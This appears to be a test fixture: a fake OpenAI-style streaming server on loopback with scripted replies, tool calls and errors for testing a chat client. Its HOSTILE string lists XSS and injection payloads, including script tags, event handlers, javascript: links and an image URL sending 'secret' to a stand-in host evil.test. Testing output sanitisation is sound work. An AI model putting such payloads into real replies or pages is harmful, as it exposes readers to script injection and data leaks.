// A vendor with OpenAI's interface on loopback: what it answers depends on the last message of the user.
import { createServer } from 'node:http';

export const KEY = 'the-right-key';

/** What a model says that wants to do harm to whoever reads it. */
export const HOSTILE = [
  '<script>window.harmed = 1</script><img src="http://evil.test/a.png" onerror="window.harmed = 2">',
  '',
  '![secret](http://evil.test/picture.png?q=secret) and [a link](javascript:window.harmed=3) and [data](data:text/html,<script>window.harmed=4</script>)',
  '',
  '<svg onload="window.harmed=5"><a href="javascript:window.harmed=6">svg</a></svg> <iframe src="http://evil.test/frame"></iframe>',
  '',
  '<style>body { background: url(http://evil.test/style) }</style><base href="http://evil.test/">',
  '',
  'photo\u202egnp.exe and \u001b[31mred\u001b[0m and [fine](https://example.org/fine)',
  '',
  '```html" onmouseover="window.harmed=7',
  '</code></pre><script>window.harmed=8</script>',
  '```',
  '',
  '| <img src=x onerror=window.harmed=9> | b |',
  '|---|---|',
  '| ![x](//evil.test/cell.png) | 2 |',
  '',
  'END OF IT',
].join('\n');

/**
 * `script(asked, round, messages, model)` may say what is answered in place of what stands here: `{ text }`, `{ tool: [name, input] }` (with a `text` before it),
 * `{ fails }` (a sentence) or `{ pieces, rate }` (of them a second). `round` is how many results of tools came since the
 * owner spoke; `usage` (tokens in and out) may go with each.
 */
export async function startProvider(script = () => null) {
  const waiting = [];
  const held = { reached: null };

  const reply = async (response, asked, messages, model, told) => {
    const head = { id: 'c', object: 'chat.completion.chunk', created: 1, model };
    const send = (choice) => response.write(`data: ${JSON.stringify({ ...head, choices: [{ index: 0, finish_reason: null, ...choice }] })}\n\n`);
    const say = (content) => send({ delta: { content } });
    const end = (reason = 'stop') => {
      send({ delta: {}, finish_reason: reason });
      const [prompt_tokens, completion_tokens] = told?.usage ?? [11, 7];
      response.write(`data: ${JSON.stringify({ ...head, choices: [], usage: { prompt_tokens, completion_tokens, total_tokens: prompt_tokens + completion_tokens } })}\n\n`);
      response.end('data: [DONE]\n\n');
    };
    send({ delta: { role: 'assistant', content: '' } });
    const hasResult = messages.at(-1)?.role === 'tool';
    if (told?.tool) {
      const [name, input] = told.tool;
      if (told.text) say(told.text);
      send({ delta: { tool_calls: [{ index: 0, id: `call_${messages.length}`, type: 'function', function: { name, arguments: JSON.stringify(input) } }] } });
      return end('tool_calls');
    } else if (told) {
      const begun = performance.now();
      for (const [i, piece] of (told.pieces ?? told.text.match(/[\s\S]{1,12}/g)).entries()) {
        const early = told.rate ? begun + (1000 * i) / told.rate - performance.now() : 0;
        if (early > 0) await new Promise((resolve) => setTimeout(resolve, early));
        say(piece);
      }
    } else if (/harm/.test(asked)) {
      for (const piece of HOSTILE.match(/[\s\S]{1,7}/g)) say(piece);
    } else if (/slowly/.test(asked)) {
      say('The first half. ');
      await new Promise((resolve) => {
        waiting.push(resolve);
        response.on('close', resolve);
        held.reached?.();
      });
      say('The second half.');
    } else if (/file/.test(asked) && !hasResult) {
      send({ delta: { tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'write_file', arguments: JSON.stringify({ path: 'note.txt', content: 'kept' }) } }] } });
      return end('tool_calls');
    } else if (/file/.test(asked)) {
      say('The file is **written**.');
    } else {
      say('You said: ');
      say(`*${asked.slice(0, 80)}*`);
    }
    end();
  };

  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += chunk));
    request.on('end', () => {
      if (request.headers.authorization !== `Bearer ${KEY}`) {
        response.writeHead(401, { 'Content-Type': 'application/json' });
        return response.end(JSON.stringify({ error: { message: 'Incorrect API key provided', type: 'invalid_request_error', code: 'invalid_api_key' } }));
      }
      if (request.url === '/v1/models') {
        response.writeHead(200, { 'Content-Type': 'application/json' });
        return response.end(JSON.stringify({ object: 'list', data: [{ id: 'fake-model', object: 'model', created: 1, owned_by: 'nobody' }] }));
      }
      const { messages = [], model = 'fake-model' } = JSON.parse(body || '{}');
      const last = messages.findLast(({ role }) => role === 'user')?.content ?? '';
      const asked = typeof last === 'string' ? last : last.map(({ text }) => text ?? '').join(' ');
      const round = messages.slice(messages.findLastIndex(({ role }) => role === 'user')).filter(({ role }) => role === 'tool').length;
      const told = script(asked, round, messages, model);
      if (told?.fails) {
        response.writeHead(400, { 'Content-Type': 'application/json' });
        return response.end(JSON.stringify({ error: { message: told.fails, type: 'invalid_request_error' } }));
      }
      response.writeHead(200, { 'Content-Type': 'text/event-stream' });
      void reply(response, asked, messages, model, told);
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/v1`,
    /** Resolves when a slow reply has said its first half. */
    halfway: () => new Promise((resolve) => (held.reached = resolve)),
    release: () => waiting.splice(0).forEach((resolve) => resolve()),
    stop: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
